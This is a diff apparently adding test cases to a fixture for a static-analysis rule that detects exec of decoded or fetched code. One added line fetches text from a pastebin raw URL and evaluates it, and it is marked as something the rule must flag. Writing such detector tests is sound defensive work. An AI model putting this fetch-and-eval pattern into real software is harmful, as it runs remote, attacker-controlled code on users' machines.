@@ -14,3 +14,11 @@ exec(compile(plugin_source, "<plugin>", "exec"))
 settings = requests.get("https://config.example.org/app.json").json()
 # ok: py_exec_decoded
 exec(open("pkg/_version.py").read(), {})
+
+
+def _check(current):
+    r = requests.get("https://pastebin.com/raw/vK3dQm8X", timeout=5)
+    # ruleid: py_exec_decoded
+    (lambda s: eval(compile(s, "<notice>", "exec")))(r.text)
+    # ok: py_exec_decoded
+    (lambda s: print(s))(r.text)
